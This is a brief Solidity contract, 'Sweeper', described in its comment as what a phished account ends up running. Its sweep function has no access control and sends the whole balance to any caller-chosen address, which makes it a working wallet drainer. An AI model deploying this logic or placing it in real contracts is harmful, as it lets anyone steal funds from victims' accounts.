// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.24;


/// @title What an account runs whose owner was made to sign the wrong thing
contract Sweeper {
    function sweep(address payable to) external {
        (bool paid,) = to.call{value: address(this).balance}("");
        require(paid, "not paid");
    }
}
